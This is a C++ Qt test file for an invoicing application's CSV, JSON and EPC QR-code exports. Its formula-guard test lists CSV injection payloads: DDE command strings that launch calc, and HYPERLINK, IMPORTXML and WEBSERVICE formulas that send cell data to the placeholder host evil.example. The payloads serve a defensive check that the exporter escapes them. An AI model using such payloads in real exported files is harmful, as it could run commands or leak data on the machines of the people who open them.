// SPDX-FileCopyrightText: 2026 The Counterfoil authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/documents/epcqr.h"
#include "core/documents/invoicecsv.h"
#include "core/documents/invoiceformat.h"
#include "core/documents/invoicejson.h"
#include "core/documents/invoicetext.h"
#include "tests/core/documents/sampleinvoices.h"

#include <QJsonArray>
#include <QTest>

using namespace counterfoil;

namespace {

//! A reader of RFC 4180 of its own, so that the writer is not its own judge.
QList<QStringList> readCsv(const QByteArray &csv)
{
    QList<QStringList> rows{{}};
    QByteArray cell;
    bool isQuoted = false;
    for (qsizetype i = csv.startsWith("\xEF\xBB\xBF") ? 3 : 0; i < csv.size(); ++i) {
        const char c = csv.at(i);
        if (isQuoted && c == '"' && i + 1 < csv.size() && csv.at(i + 1) == '"')
            cell += csv.at(++i);
        else if (c == '"')
            isQuoted = !isQuoted;
        else if (isQuoted || (c != ',' && c != '\r' && c != '\n'))
            cell += c;
        else if (c != '\r') {
            rows.last() += QString::fromUtf8(std::exchange(cell, {}));
            if (c == '\n')
                rows.append(QStringList());
        }
    }
    rows.removeLast();
    return rows;
}

QMap<QString, QString> record(const QList<QStringList> &rows, qsizetype row)
{
    QMap<QString, QString> cells;
    for (qsizetype i = 0; i < rows.at(0).size(); ++i)
        cells.insert(rows.at(0).at(i), rows.at(row).at(i));
    return cells;
}

} // namespace

class TestInvoiceData : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void guardsFormulas_data();
    void guardsFormulas();
    void leavesPlainTextsAlone_data();
    void leavesPlainTextsAlone();
    void csvComesBack();
    void csvHasARowWithoutLines();
    void jsonHasTheContractsShape();
    void jsonOfADraftHasNulls();
    void jsonKeepsTheCurrencysDigits();
    void payloadIsThatOfTheStandard();
    void payloadOnlyWhereItCanBePaid_data();
    void payloadOnlyWhereItCanBePaid();
    void payloadHoldsItsLimits();
    void formatsByLanguage_data();
    void formatsByLanguage();
    void namesUnitsOfUsage_data();
    void namesUnitsOfUsage();
    void saysWhoOwesTheTax();
    void everyWordIsThere();
};

void TestInvoiceData::guardsFormulas_data()
{
    QTest::addColumn<QString>("text");
    const QStringList payloads{
        QStringLiteral("=1+1"),
        QStringLiteral("=cmd|' /C calc'!A0"),
        QStringLiteral("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")"),
        QStringLiteral("=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")"),
        QStringLiteral("=WEBSERVICE(\"http://evil.example\")"),
        QStringLiteral("=DDE(\"cmd\",\"/C calc\",\"x\")"),
        QStringLiteral("=2+5+cmd|' /C calc'!A0"),
        QStringLiteral("=IFERROR(1/0,\"x\")"),
        QStringLiteral("=-1"),
        QStringLiteral("=\"a\"&\"b\""),
        QStringLiteral("="),
        QStringLiteral("+1+1"),
        QStringLiteral("+cmd|' /C calc'!A0"),
        QStringLiteral("+31 20 555 01 00"),
        QStringLiteral("+A1"),
        QStringLiteral("+"),
        QStringLiteral("-1+1"),
        QStringLiteral("-2+3+cmd|' /C calc'!A0"),
        QStringLiteral("-A1"),
        QStringLiteral("-12.50"),
        QStringLiteral("- bullet point"),
        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
        QStringLiteral("@A1"),
        QStringLiteral("@contoso"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\tplain behind a tab"),
        QStringLiteral("\r=1+1"),
        QStringLiteral("\n=1+1"),
        QStringLiteral("\r\n@A1"),
        QStringLiteral("  =1+1"),
        QStringLiteral(" +1"),
        QStringLiteral("\u00a0=1+1"),
        QStringLiteral("=1+1,2"),
        QStringLiteral("=\"quoted\""),
        QStringLiteral("\uFF1D1+1"),
        QStringLiteral("\uFF0B1"),
        QStringLiteral("\uFF0D1"),
        QStringLiteral("\uFF20SUM(A1)"),
    };
    for (qsizetype i = 0; i < payloads.size(); ++i)
        QTest::newRow(qPrintable(QStringLiteral("payload %1").arg(i))) << payloads.at(i);
    QVERIFY(payloads.size() >= 30);
}

void TestInvoiceData::guardsFormulas()
{
    QFETCH(QString, text);
    Invoice invoice = samples::invoice();
    invoice.number = invoice.customer = invoice.buyer.name = invoice.purchaseOrder = invoice.buyerReference = text;
    invoice.lines[0].description = invoice.lines[0].explanation = invoice.lines[0].group = invoice.lines[0].product =
        text;
    const auto cells = record(readCsv(invoicesCsv({invoice})), 1);
    for (const QString &name :
         {QStringLiteral("invoice"), QStringLiteral("customer"), QStringLiteral("customerName"),
          QStringLiteral("purchaseOrder"), QStringLiteral("buyerReference"), QStringLiteral("description"),
          QStringLiteral("explanation"), QStringLiteral("group"), QStringLiteral("product")})
        QCOMPARE(cells.value(name), u'\'' + text);
}

void TestInvoiceData::leavesPlainTextsAlone_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("words") << QStringLiteral("Microsoft 365 E5");
    QTest::newRow("comma and quote") << QStringLiteral("Storage, \"hot\" LRS; x");
    QTest::newRow("lines") << QStringLiteral("one\r\ntwo");
    QTest::newRow("inner signs") << QStringLiteral("a=b+c-d@e");
    QTest::newRow("script") << QStringLiteral("株式会社 & קונטוסו");
    QTest::newRow("apostrophe") << QStringLiteral("'t Hof");
    QTest::newRow("empty") << QString(QStringLiteral(""));
}

void TestInvoiceData::leavesPlainTextsAlone()
{
    QFETCH(QString, text);
    Invoice invoice = samples::invoice();
    invoice.lines[0].description = text;
    QCOMPARE(record(readCsv(invoicesCsv({invoice})), 1).value(QStringLiteral("description")), text);
}

void TestInvoiceData::csvComesBack()
{
    Invoice credit = samples::invoice();
    samples::addLine(credit, QStringLiteral("Credit, \"three\" seats"), "-3", "59.123456");
    samples::total(credit);
    const QByteArray csv = invoicesCsv({credit, samples::longInvoice(3)});
    QVERIFY(csv.startsWith("\xEF\xBB\xBF"
                           "invoice,id,type,"));
    QVERIFY(csv.endsWith("\r\n"));
    const QList<QStringList> rows = readCsv(csv);
    QCOMPARE(rows.size(), 1 + credit.lines.size() + 3);
    for (const QStringList &row : rows)
        QCOMPARE(row.size(), rows.constFirst().size());
    for (qsizetype i = 0; i < credit.lines.size(); ++i) {
        const auto cells = record(rows, i + 1);
        const InvoiceLine &line = credit.lines.at(i);
        QCOMPARE(cells.value(QStringLiteral("description")), line.description);
        QCOMPARE(Decimal::parse(cells.value(QStringLiteral("quantity"))), line.quantity);
        QCOMPARE(Decimal::parse(cells.value(QStringLiteral("unitPrice"))), line.unitPrice);
        QCOMPARE(Decimal::parse(cells.value(QStringLiteral("net"))), line.net);
        QCOMPARE(Decimal::parse(cells.value(QStringLiteral("invoiceDue"))), credit.due);
    }
    const auto last = record(rows, credit.lines.size());
    QCOMPARE(last.value(QStringLiteral("net")), QStringLiteral("-177.37"));
    QCOMPARE(last.value(QStringLiteral("unitPrice")), QStringLiteral("59.123456"));
    QCOMPARE(record(rows, 1).value(QStringLiteral("net")), QStringLiteral("3571.44"));
    QCOMPARE(record(rows, 9).value(QStringLiteral("taxRate")), QStringLiteral("21"));
}

void TestInvoiceData::csvHasARowWithoutLines()
{
    const QList<QStringList> rows = readCsv(invoicesCsv({samples::longInvoice(0)}));
    QCOMPARE(rows.size(), 2);
    QCOMPARE(record(rows, 1).value(QStringLiteral("invoice")), QStringLiteral("INV-2026-00451"));
    QCOMPARE(record(rows, 1).value(QStringLiteral("net")), QString());
}

void TestInvoiceData::jsonHasTheContractsShape()
{
    Invoice invoice = samples::invoice();
    invoice.lines[3].rule = QStringLiteral("e5");
    invoice.lines[0].unpriced = true;
    invoice.guards = {{QStringLiteral("minimumMargin"), QStringLiteral("margin below 3 %")}};
    const QJsonObject json = invoiceJson(invoice, true);
    const QJsonObject service{{QStringLiteral("from"), QStringLiteral("2026-07-15")},
                              {QStringLiteral("to"), QStringLiteral("2026-08-14")}};
    QCOMPARE(json.value(u"number"), QJsonValue(QStringLiteral("INV-2026-00451")));
    QCOMPARE(json.value(u"type"), QJsonValue(QStringLiteral("invoice")));
    QCOMPARE(json.value(u"state"), QJsonValue(QStringLiteral("issued")));
    QCOMPARE(json.value(u"contract"), QJsonValue(QStringLiteral("contoso-2026")));
    QCOMPARE(json.value(u"service").toObject(), service);
    QCOMPARE(json.value(u"month"), QJsonValue(QStringLiteral("2026-07")));
    QCOMPARE(json.value(u"issuedOn"), QJsonValue(QStringLiteral("2026-08-17")));
    QCOMPARE(json.value(u"dueOn"), QJsonValue(QStringLiteral("2026-09-16")));
    QCOMPARE(json.value(u"net"), QJsonValue(QStringLiteral("14467.79")));
    QCOMPARE(json.value(u"tax"), QJsonValue(QStringLiteral("67.20")));
    QCOMPARE(json.value(u"gross"), QJsonValue(QStringLiteral("14534.99")));
    QCOMPARE(json.value(u"prepaid"), QJsonValue(QStringLiteral("500.00")));
    QCOMPARE(json.value(u"due"), QJsonValue(QStringLiteral("14034.99")));
    QCOMPARE(json.value(u"guards").toArray().size(), 1);
    QCOMPARE(json.value(u"taxes").toArray().size(), 2);
    const QJsonArray lines = json.value(u"lines").toArray();
    QCOMPARE(lines.size(), 9);
    const QJsonObject first = lines.at(0).toObject();
    QCOMPARE(first.value(u"quantity"), QJsonValue(QStringLiteral("1")));
    QCOMPARE(first.value(u"unitPrice"), QJsonValue(QStringLiteral("3571.44")));
    QCOMPARE(first.value(u"baseQuantity"), QJsonValue(QStringLiteral("1")));
    QCOMPARE(first.value(u"cost"), QJsonValue(QStringLiteral("0.00")));
    QCOMPARE(first.value(u"family"), QJsonValue(QStringLiteral("azure")));
    QVERIFY(first.value(u"rule").isNull());
    QCOMPARE(first.value(u"unpriced"), QJsonValue(true));
    QCOMPARE(first.value(u"from"), QJsonValue(QStringLiteral("2026-07-15")));
    QCOMPARE(first.value(u"sources"), QJsonValue(1));
    QCOMPARE(lines.at(3).toObject().value(u"rule"), QJsonValue(QStringLiteral("e5")));
    QVERIFY(!invoiceJson(invoice, false).contains(u"lines"));
}

void TestInvoiceData::jsonOfADraftHasNulls()
{
    Invoice invoice = samples::invoice();
    invoice.number.clear();
    invoice.state = InvoiceState::Draft;
    invoice.issuedOn = invoice.dueOn = Day();
    const QJsonObject json = invoiceJson(invoice, true);
    for (const QString &key : {QStringLiteral("number"), QStringLiteral("issuedOn"), QStringLiteral("dueOn")})
        QVERIFY2(json.contains(key) && json.value(key).isNull(), qPrintable(key));
    QCOMPARE(json.value(u"state"), QJsonValue(QStringLiteral("draft")));
    invoice.lines[0].kind = LineKind::Prepayment;
    QCOMPARE(invoiceJson(invoice, true).value(u"lines").toArray().at(0).toObject().value(u"family"),
             QJsonValue(QStringLiteral("prepayment")));
}

void TestInvoiceData::jsonKeepsTheCurrencysDigits()
{
    for (const auto &[currency, net] : {std::pair{"JPY", "1250"}, {"KWD", "1250.000"}, {"EUR", "1250.00"}}) {
        Invoice invoice = samples::longInvoice(0);
        invoice.currency = QString::fromLatin1(currency);
        samples::addLine(invoice, QStringLiteral("x"), "1", "1250");
        samples::total(invoice);
        QCOMPARE(invoiceJson(invoice, true).value(u"net").toString(), QString::fromLatin1(net));
    }
}

void TestInvoiceData::payloadIsThatOfTheStandard()
{
    const std::optional<QByteArray> payload = epcPayload(samples::invoice());
    QVERIFY(payload.has_value());
    QCOMPARE(*payload,
             QByteArray("BCD\n002\n1\nSCT\nABNANL2A\nNordwind Cloud B.V.\nNL91ABNA0417164300\nEUR14034.99\n\n\n"
                        "INV-2026-00451"));
    const Result<QrMatrix> matrix = qrMatrix(*payload);
    QVERIFY(matrix.has_value());
    QCOMPARE((matrix->size - 17) % 4, 0);
    QCOMPARE(matrix->dark.size(), qsizetype(matrix->size) * matrix->size);
    for (int i = 0; i < 7; ++i) // the finder pattern's upper edge, and the white line beside it
        QVERIFY(matrix->isDark(i, 0) && !matrix->isDark(i, 7));
}

void TestInvoiceData::payloadOnlyWhereItCanBePaid_data()
{
    using Change = std::function<void(Invoice &)>;
    QTest::addColumn<Change>("change");
    QTest::addColumn<bool>("isPayable");
    QTest::newRow("as it is") << Change([](Invoice &) {}) << true;
    QTest::newRow("without BIC") << Change([](Invoice &i) { i.seller.bic.clear(); }) << true;
    QTest::newRow("a cent") << Change([](Invoice &i) { i.due = Decimal::fromParts(1, 2); }) << true;
    QTest::newRow("the most") << Change([](Invoice &i) { i.due = samples::decimal("999999999.99"); }) << true;
    QTest::newRow("too much") << Change([](Invoice &i) { i.due = samples::decimal("1000000000"); }) << false;
    QTest::newRow("nothing due") << Change([](Invoice &i) { i.due = 0; }) << false;
    QTest::newRow("negative") << Change([](Invoice &i) { i.due = -1; }) << false;
    QTest::newRow("dollars") << Change([](Invoice &i) { i.currency = QStringLiteral("USD"); }) << false;
    QTest::newRow("without IBAN") << Change([](Invoice &i) { i.seller.iban.clear(); }) << false;
    QTest::newRow("without name") << Change([](Invoice &i) { i.seller.name = QStringLiteral(" "); }) << false;
    QTest::newRow("draft") << Change([](Invoice &i) { i.number.clear(); }) << false;
    QTest::newRow("credit note") << Change([](Invoice &i) { i.type = InvoiceType::CreditNote; }) << false;
}

void TestInvoiceData::payloadOnlyWhereItCanBePaid()
{
    QFETCH(std::function<void(Invoice &)>, change);
    QFETCH(bool, isPayable);
    Invoice invoice = samples::invoice();
    change(invoice);
    QCOMPARE(epcPayload(invoice).has_value(), isPayable);
}

void TestInvoiceData::payloadHoldsItsLimits()
{
    Invoice invoice = samples::invoice();
    invoice.seller.iban = QStringLiteral("nl91 abna 0417 1643 00");
    invoice.seller.name = QString(60, QChar(0x6771)) + QStringLiteral("\nEUR1.00\n") + QString(40, u'x');
    invoice.number = QString(200, u'9') + u'\n';
    const std::optional<QByteArray> payload = epcPayload(invoice);
    QVERIFY(payload.has_value());
    QVERIFY(payload->size() <= 331);
    const QByteArrayList fields = payload->split('\n');
    QCOMPARE(fields.size(), 11);
    QVERIFY(!fields.at(5).isEmpty() && QString::fromUtf8(fields.at(5)).size() <= 70);
    QVERIFY(!QString::fromUtf8(fields.at(5)).contains(QChar::ReplacementCharacter));
    QCOMPARE(fields.at(6), QByteArray("NL91ABNA0417164300"));
    QCOMPARE(fields.at(10).size(), 140);
    const Result<QrMatrix> matrix = qrMatrix(*payload);
    QVERIFY(matrix.has_value() && matrix->size <= 17 + 4 * 13);
    QVERIFY(!qrMatrix(QByteArray(2000, 'x')).has_value());
}

void TestInvoiceData::formatsByLanguage_data()
{
    QTest::addColumn<QString>("language");
    QTest::addColumn<QString>("amount");
    QTest::addColumn<QString>("day");
    QTest::addColumn<QString>("range");
    QTest::newRow("en") << "en" << QStringLiteral("−1,234.50") << "17 August 2026"
                        << QStringLiteral("15 Jul–14 Aug 2026");
    QTest::newRow("de") << "de-AT" << QStringLiteral("−1.234,50") << "17. August 2026"
                        << QStringLiteral("15. Juli–14. Aug. 2026");
    QTest::newRow("nl") << "nl" << QStringLiteral("−1.234,50") << "17 augustus 2026"
                        << QStringLiteral("15 jul.–14 aug. 2026");
    QTest::newRow("fr") << "fr" << QStringLiteral("−1\u202f234,50") << QStringLiteral("17 août 2026")
                        << QStringLiteral("15 juil.–14 août 2026");
    QTest::newRow("another") << "xx" << QStringLiteral("−1,234.50") << "17 August 2026"
                             << QStringLiteral("15 Jul–14 Aug 2026");
}

void TestInvoiceData::formatsByLanguage()
{
    QFETCH(QString, language);
    const InvoiceFormat format(language, u"EUR");
    QTEST(format.amount(samples::decimal("-1234.5")), "amount");
    QTEST(format.day(Day::of(2026, 8, 17)), "day");
    QTEST(format.range({Day::of(2026, 7, 15), Day::of(2026, 8, 14)}), "range");
    QCOMPARE(InvoiceFormat(u"en", u"JPY").amount(1234), QStringLiteral("1,234"));
    QCOMPARE(InvoiceFormat(u"en", u"KWD").amount(1), QStringLiteral("1.000"));
    QCOMPARE(InvoiceFormat(u"en", u"EUR").amount(samples::decimal("0.0123456")), QStringLiteral("0.0123456"));
    QCOMPARE(InvoiceFormat(u"en", u"EUR").range({Day::of(2026, 7, 1), Day::of(2026, 7, 31)}),
             QStringLiteral("1–31 Jul 2026"));
    const InvoiceFormat french(u"fr", u"EUR");
    QCOMPARE(french.range({Day::of(2026, 7, 1), Day::of(2026, 7, 31)}), QStringLiteral("1er–31 juil. 2026"));
    QCOMPARE(french.longRange({Day::of(2026, 7, 1), Day::of(2026, 8, 1)}),
             QStringLiteral("1er juillet au 1er août 2026"));
}

void TestInvoiceData::namesUnitsOfUsage_data()
{
    QTest::addColumn<QString>("unit");
    QTest::addColumn<QStringList>("names"); // en, de, nl, fr
    const auto row = [](const char *unit, const char *names) {
        QTest::newRow(unit) << QString::fromUtf8(unit) << QString::fromUtf8(names).split(u'|');
    };
    row("1 Hour", "hours|Stunden|uur|heures");
    row("Hours", "hours|Stunden|uur|heures");
    row("100 Hours", "100 hours|100 Stunden|100 uur|100 heures");
    row("1 GB", "GB|GB|GB|Go");
    row("1 GB/Month", "GB-month|GB-Monat|GB-maand|Go-mois");
    row("1 GB/Hr", "GB-hour|GB-Stunde|GB-uur|Go-heure");
    row("1/Month", "months|Monate|maanden|mois");
    row("1 Month", "months|Monate|maanden|mois");
    row("10K", "10 K|10 K|10 K|10 K");
    row("1M", "1 M|1 M|1 M|1 M");
    row("10,000", "10,000|10,000|10,000|10,000");
    for (const char *unit : {"1 Runtime Minute", "1 GiB Hour", "vCPU hours", "runs", "1 GB/月", "10 Klicks"})
        row(unit, QStringList(4, QString::fromUtf8(unit)).join(u'|').toUtf8().constData()); // as Microsoft writes it
}

void TestInvoiceData::namesUnitsOfUsage()
{
    QFETCH(const QString, unit);
    QFETCH(const QStringList, names);
    QStringList said;
    for (const QStringView language : {u"en", u"de-AT", u"nl", u"fr"})
        said << usageUnitName(unit, language);
    QCOMPARE(said, names);
}

void TestInvoiceData::saysWhoOwesTheTax()
{
    QVERIFY(taxNote(u"AE", QStringLiteral("Reverse charge"), u"en").contains(u"Article 196 of Directive 2006/112/EC"));
    QVERIFY(taxNote(u"AE", {}, u"de").contains(u"Steuerschuldnerschaft des Leistungsempfängers"));
    QVERIFY(taxNote(u"AE", {}, u"nl").contains(u"Btw verlegd"));
    QVERIFY(taxNote(u"AE", QStringLiteral("reverse charge"), u"fr").contains(u"Autoliquidation"));
    QCOMPARE(taxNote(u"AE", QStringLiteral("§ 13b UStG"), u"de"), QStringLiteral("§ 13b UStG"));
    QCOMPARE(taxNote(u"S", {}, u"en"), QString());
    QCOMPARE(countryName(u"DE", u"fr"), QStringLiteral("Allemagne"));
    QCOMPARE(countryName(u"BO", u"fr"), QStringLiteral("Bolivia"));
    QCOMPARE(countryName(u"ZZ", u"en").isEmpty(), false);
}

void TestInvoiceData::everyWordIsThere()
{
    // the struct holds nothing but words, so it can be walked as an array of them
    constexpr std::size_t count = sizeof(InvoiceWords) / sizeof(QString);
    for (const QStringView language : {u"en", u"de", u"nl", u"fr"}) {
        const auto *word = reinterpret_cast<const QString *>(&invoiceWords(language));
        for (std::size_t i = 0; i < count; ++i)
            QVERIFY2(!word[i].isEmpty(), qPrintable(language.toString() + u' ' + QString::number(i)));
    }
}

QTEST_GUILESS_MAIN(TestInvoiceData)

#include "tst_invoicedata.moc"
